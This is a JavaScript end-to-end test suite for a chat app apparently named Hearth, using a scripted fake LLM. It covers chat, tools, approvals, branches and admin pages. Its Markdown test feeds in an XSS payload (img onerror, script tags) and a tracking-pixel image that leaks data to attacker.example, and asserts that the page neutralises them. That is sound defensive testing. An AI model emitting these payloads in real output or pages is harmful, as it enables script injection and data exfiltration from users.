// End-to-end: chat and the admin pages for providers, models and traces, against the real hearth
// binary and the scripted fake LLM upstream (hearth-fake-llm), driven by Debian's Chromium.
//
//   HEARTH_BIN, FAKE_LLM_BIN, CHROMIUM_PATH: see support.mjs.
//
// The fake answers by rule: `fake-chat` echoes "You said: <text>"; with tools offered,
// "calculate EXPR" calls `calculator`, and after a tool result it says "The result is <result>.".
// A script queued with POST <fake>/_scripts is used for the next request instead.
// Screenshots and both processes' logs go to <repo>/artifacts/.

import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { ARTIFACTS, createFirstAdmin, launchBrowser, openPage, startFakeLlm, startServer, stopProcess } from './support.mjs';

const ADMIN = { email: 'admin@example.com', name: 'Admin', password: 'correct-horse-battery-9' };
const TWENTY =
  'one two three four five six seven eight nine ten eleven twelve thirteen fourteen fifteen sixteen seventeen eighteen nineteen twenty';
const LONG = Array.from({ length: 60 }, (_, i) => `word${i + 1}`).join(' ');

describe('chat against the real server and a fake LLM', { timeout: 300_000 }, () => {
  /** @type {Awaited<ReturnType<typeof startServer>> | undefined} */
  let server;
  /** @type {Awaited<ReturnType<typeof startFakeLlm>> | undefined} */
  let fake;
  /** @type {import('playwright-core').Browser | undefined} */
  let browser;
  /** @type {import('playwright-core').Page} */
  let page;
  const pageErrors = [];

  before(async () => {
    fake = await startFakeLlm();
    server = await startServer({
      HEARTH_AUTH__REGISTRATION: 'open',
      HEARTH_CHAT__TOOL_POLICY__CURRENT_TIME: 'ask',
    });
    browser = await launchBrowser();
    page = await openPage(browser, pageErrors);
  });

  after(async () => {
    await browser?.close();
    await stopProcess(server, 'e2e-chat-server.log');
    await stopProcess(fake, 'e2e-fake-llm.log');
  });

  /** Queues what the fake upstream does on its next request. */
  async function pushScript(script) {
    const res = await fetch(`${fake.base}/_scripts`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(script),
    });
    assert.equal(res.status, 204, await res.text());
  }

  const mainNav = () => page.getByRole('navigation', { name: 'Main' });
  const adminTab = (name) => page.getByRole('navigation', { name: 'Admin' }).getByRole('link', { name });
  const composer = () => page.getByLabel('Message', { exact: true });
  const stopButton = () => page.getByRole('button', { name: 'Stop', exact: true });
  const answers = () => page.locator('[data-testid=message][data-role=assistant]');
  const lastAnswer = () => answers().last();

  async function pickModel(name) {
    const picker = page.getByLabel('Model', { exact: true });
    await picker.selectOption(name);
    assert.equal(await picker.inputValue(), name);
  }

  async function send(text) {
    await composer().fill(text);
    await page.getByRole('button', { name: 'Send', exact: true }).click();
  }

  /** Waits until no answer is being written. */
  async function waitIdle() {
    await stopButton().waitFor({ state: 'hidden' });
    await page.getByRole('button', { name: 'Send', exact: true }).waitFor();
  }

  it('creates the admin on the first-run page', async () => {
    await createFirstAdmin(page, server.url, ADMIN);
    await page.getByText('No models are available yet.').waitFor();
  });

  it('adds the fake provider in Admin › Providers and syncs its models', async () => {
    await mainNav().getByRole('link', { name: 'Admin' }).click();
    await page.waitForURL('**/admin/users');
    await adminTab('Providers').click();
    await page.waitForURL('**/admin/providers');
    await page.getByText('No providers yet.').waitFor();

    await page.getByLabel('Kind', { exact: true }).selectOption('openai');
    await page.getByLabel('Name', { exact: true }).fill('fake');
    await page.getByLabel('Base URL', { exact: true }).fill(fake.openaiUrl);
    await page.getByRole('button', { name: 'Add provider' }).click();

    const row = page.getByRole('row').filter({ hasText: fake.openaiUrl });
    await row.waitFor();
    assert.match(await row.innerText(), /Enabled/);
    await row.getByRole('button', { name: 'Sync models' }).click();
    const result = page.getByTestId('sync-result');
    await result.filter({ hasText: 'fake-chat' }).waitFor();
    assert.match(await result.innerText(), /fake-tools/);
    await page.screenshot({ path: path.join(ARTIFACTS, 'e2e-providers.png') });

    await adminTab('Models').click();
    await page.waitForURL('**/admin/models');
    const model = page.getByRole('row').filter({ hasText: 'tokens-500' });
    await model.getByRole('button', { name: 'Edit' }).click();
    await page.getByLabel('Aliases', { exact: true }).fill('t500, bulk');
    await page.getByLabel('Input $ / M tokens', { exact: true }).fill('0.5');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await model.filter({ hasText: 't500, bulk' }).waitFor();
    assert.match(await model.innerText(), /\$0\.5/);
    await model.getByRole('switch').click();
    await model.getByText('Off', { exact: true }).waitFor();
    // The sync recognised the embedding model by its id.
    const embedder = page.getByRole('row').filter({ hasText: 'fake-embed' });
    await embedder.getByText('embeddings', { exact: true }).waitFor();
    assert.doesNotMatch(await embedder.innerText(), /streaming/);
    await page.screenshot({ path: path.join(ARTIFACTS, 'e2e-models.png'), animations: 'disabled' });
  });

  it('builds a knowledge base on the provider’s embedding model', async () => {
    await mainNav().getByRole('link', { name: 'Knowledge' }).click();
    await page.waitForURL('**/knowledge');
    // No built-in embedder here: the provider's embedding model is the one offered.
    const picker = page.getByLabel('Embedding model', { exact: true });
    await picker.waitFor();
    assert.equal(await picker.inputValue(), 'fake-embed');
    await page.getByLabel('Name', { exact: true }).fill('Remote kitchen');
    await page.getByRole('button', { name: 'Create knowledge base' }).click();
    await page.waitForURL(/\/knowledge\/[^/]+$/);
    await page.getByTestId('knowledge-base-stats').filter({ hasText: 'fake-embed' }).filter({ hasText: '64 dimensions' }).waitFor();
    await page.getByLabel('Choose files', { exact: true }).setInputFiles([
      {
        name: 'bread.txt',
        mimeType: 'text/plain',
        buffer: Buffer.from('Bread dough rises because yeast ferments the sugars in flour.\n'),
      },
      { name: 'cats.txt', mimeType: 'text/plain', buffer: Buffer.from('Cats purr when they are content.\n') },
    ]);
    await page.locator('[data-testid=document-row][data-status=indexed]').filter({ hasText: 'bread.txt' }).waitFor();
    await page.locator('[data-testid=document-row][data-status=indexed]').filter({ hasText: 'cats.txt' }).waitFor();
    await page.getByLabel('Query', { exact: true }).fill('yeast flour');
    await page.getByLabel('Mode', { exact: true }).selectOption('vector');
    await page.getByRole('button', { name: 'Search', exact: true }).click();
    const first = page.getByTestId('search-hit').first();
    await first.filter({ hasText: 'bread.txt' }).waitFor();
  });

  it('answers with the picked model', async () => {
    await mainNav().getByRole('link', { name: 'Chat' }).click();
    await page.waitForURL('**/chat');
    // Embedding models are not chat models (the list loads after the page: wait for it).
    const options = page.getByLabel('Model', { exact: true }).locator('option');
    await options.filter({ hasText: 'fake-chat' }).waitFor({ state: 'attached' });
    const offered = await options.allInnerTexts();
    assert.ok(offered.some((o) => o.includes('fake-chat')), offered.join(', '));
    assert.ok(!offered.some((o) => o.includes('fake-embed')), offered.join(', '));
    await pickModel('fake-chat');
    await send('hello');
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);
    await lastAnswer().filter({ hasText: 'You said: hello' }).waitFor();
    await waitIdle();
    // The first message names the conversation in the list.
    await page.getByRole('complementary', { name: 'Conversations' }).getByRole('link', { name: /hello/ }).waitFor();
  });

  it('renders Markdown with highlighted code and never the model’s HTML', async () => {
    const text = [
      'Some **bold** text.',
      '',
      '```js',
      'const answer = 42;',
      '```',
      '',
      '<img src=x onerror="document.title=\'pwned\'"> and <script>document.title=\'pwned\'</script> end',
      '',
      '![tracking pixel](https://attacker.example/leak?q=secret)',
    ].join('\n');
    await pushScript({ steps: [{ text }] });
    await send('show me some code');
    const answer = lastAnswer();
    await answer.locator('strong', { hasText: 'bold' }).waitFor();
    await answer.locator('.code-block code.language-js .hljs-keyword', { hasText: 'const' }).waitFor();
    await waitIdle();
    assert.equal(await answer.locator('script, img[src]').count(), 0, 'no script, no image that loads from elsewhere');
    assert.match(await answer.innerText(), /<img src=x onerror=/);
    assert.equal(await page.title(), 'Hearth');

    const copy = answer.locator('.code-copy');
    await copy.click();
    await copy.filter({ hasText: /^(Copied|Select and copy)$/ }).waitFor();
  });

  it('runs a tool and shows its card', async () => {
    await pickModel('fake-tools');
    await send('calculate 6*7');
    const card = page.getByTestId('tool-call').filter({ hasText: 'calculator' }).last();
    await card.waitFor();
    await card.getByTestId('tool-output').filter({ hasText: /^42$/ }).waitFor();
    assert.match(await card.innerText(), /"expression": "6\*7"/);
    await lastAnswer().filter({ hasText: 'The result is 42.' }).waitFor();
    await waitIdle();
  });

  it('asks before running a tool that needs approval', async () => {
    await pushScript({ steps: [{ tool_call: { name: 'current_time', arguments: '{}' } }] });
    await send('what time is it?');
    const card = page.getByTestId('tool-call').filter({ hasText: 'current_time' }).last();
    const approve = card.getByRole('button', { name: 'Approve' });
    await approve.waitFor();
    await card.getByRole('button', { name: 'Deny' }).waitFor();
    await page.screenshot({ path: path.join(ARTIFACTS, 'e2e-chat-approval.png') });
    await approve.click();
    await page.locator('[data-testid=tool-call][data-status=ok]').filter({ hasText: 'current_time' }).waitFor();
    await approve.waitFor({ state: 'detached' });
    await lastAnswer().filter({ hasText: 'The result is' }).waitFor();
    await waitIdle();
    await page.screenshot({ path: path.join(ARTIFACTS, 'e2e-chat-tools.png') });
  });

  it('continues an answer after a reload', async () => {
    await pickModel('fake-chat');
    await pushScript({ steps: [{ text: TWENTY }], chunk_delay_ms: 150 });
    await send('count to twenty');
    await lastAnswer().filter({ hasText: 'one two' }).waitFor();
    const url = page.url();

    await page.reload();
    assert.equal(page.url(), url);
    await lastAnswer().filter({ hasText: 'twenty' }).waitFor();
    await waitIdle();
    const text = (await lastAnswer().locator('.markdown').innerText()).trim();
    assert.equal(text, TWENTY, 'the resumed answer is whole and has nothing twice');
    assert.equal(await lastAnswer().getAttribute('data-status'), 'complete');
  });

  it('stops an answer and keeps what was written', async () => {
    await pushScript({ steps: [{ text: LONG }], chunk_delay_ms: 300 });
    await send('tell me a long story');
    await lastAnswer().filter({ hasText: 'word2' }).waitFor();
    await stopButton().click();
    const stopped = page.locator('[data-testid=message][data-role=assistant][data-status=stopped]').last();
    await stopped.waitFor();
    await waitIdle();
    await stopped.getByText('Stopped', { exact: true }).waitFor();
    const text = (await stopped.locator('.markdown').innerText()).trim();
    assert.ok(text.startsWith('word1 word2'), `partial answer kept: ${text}`);
    assert.ok(text.length < LONG.length, 'the answer was cut short');
  });

  it('regenerates an answer into a second branch and switches back', async () => {
    await lastAnswer().getByRole('button', { name: 'Regenerate' }).click();
    await lastAnswer().filter({ hasText: 'You said: tell me a long story' }).waitFor();
    await waitIdle();
    await lastAnswer().getByTestId('branch-position').filter({ hasText: '2/2' }).waitFor();

    await lastAnswer().getByRole('button', { name: 'Previous version' }).click();
    await lastAnswer().getByTestId('branch-position').filter({ hasText: '1/2' }).waitFor();
    assert.equal(await lastAnswer().getAttribute('data-status'), 'stopped');
    assert.match(await lastAnswer().innerText(), /word1 word2/);

    // The choice is stored: a reload shows the same branch.
    await page.reload();
    await lastAnswer().getByTestId('branch-position').filter({ hasText: '1/2' }).waitFor();
  });

  it('edits the first message into a new branch', async () => {
    const first = page.locator('[data-testid=message][data-role=user]').first();
    await first.getByRole('button', { name: 'Edit' }).click();
    const editor = page.getByLabel('Edit message', { exact: true });
    await editor.fill('hello again');
    await page.getByRole('button', { name: 'Save and send' }).click();
    await lastAnswer().filter({ hasText: 'You said: hello again' }).waitFor();
    await waitIdle();
    assert.equal(await page.locator('[data-testid=message]').count(), 2, 'the new branch starts at the top');
    await page.locator('[data-testid=message][data-role=user]').first().getByTestId('branch-position').filter({ hasText: '2/2' }).waitFor();
  });

  it('shows an upstream error under the partial answer', async () => {
    await pushScript({ steps: [{ text: 'a partial answer' }, { stream_error: 'upstream exploded' }] });
    await send('this will fail');
    const failed = page.locator('[data-testid=message][data-role=assistant][data-status=error]').last();
    await failed.waitFor();
    await waitIdle();
    await failed.getByRole('alert').waitFor();
    assert.match(await failed.locator('.markdown').innerText(), /a partial answer/);
  });

  it('renames, searches, exports and deletes a conversation', async () => {
    await page.getByRole('button', { name: 'Rename' }).click();
    await page.getByLabel('Title', { exact: true }).fill('Renamed chat');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('heading', { name: 'Renamed chat' }).waitFor();
    const list = page.getByRole('complementary', { name: 'Conversations' });
    await list.getByRole('link', { name: /Renamed chat/ }).waitFor();

    const search = page.getByLabel('Search conversations', { exact: true });
    await search.fill('hello again');
    await list.getByRole('link', { name: /Renamed chat/ }).waitFor();
    await search.fill('no such words anywhere');
    await list.getByText('No chats match.').waitFor();
    await search.fill('');
    await list.getByRole('link', { name: /Renamed chat/ }).waitFor();

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export Markdown' }).click()]);
    assert.match(download.suggestedFilename(), /\.md$/);

    await page.getByRole('button', { name: 'Delete', exact: true }).click();
    await page.getByRole('button', { name: 'Yes, delete' }).click();
    await page.waitForURL(/\/chat$/);
    await list.getByText('No chats yet.').waitFor();
  });

  it('lists the model calls in Admin › Traces', async () => {
    await mainNav().getByRole('link', { name: 'Admin' }).click();
    await page.waitForURL('**/admin/users');
    await adminTab('Traces').click();
    await page.waitForURL('**/admin/traces');
    const rows = page.getByTestId('traces-table').getByRole('row').filter({ hasText: 'fake-chat' });
    await rows.first().waitFor();
    assert.ok((await rows.count()) >= 3, 'one row per fake-chat call');
    // Emails come from the users list, which may arrive after the calls.
    await rows.filter({ hasText: ADMIN.email }).first().waitFor();

    const usage = page.getByTestId('usage-table');
    await usage.getByRole('row').filter({ hasText: 'fake-tools' }).waitFor();
    await usage.getByRole('row').filter({ hasText: 'Total' }).waitFor();
    await page.screenshot({ path: path.join(ARTIFACTS, 'e2e-traces.png'), fullPage: true });

    // The model filter goes to the server.
    await page.getByLabel('Model', { exact: true }).selectOption('fake-tools');
    await rows.first().waitFor({ state: 'detached' });
    await page.getByTestId('traces-table').getByRole('row').filter({ hasText: 'fake-tools' }).first().waitFor();
  });

  it('raised no uncaught errors in the page', () => {
    assert.deepEqual(pageErrors, []);
  });
});
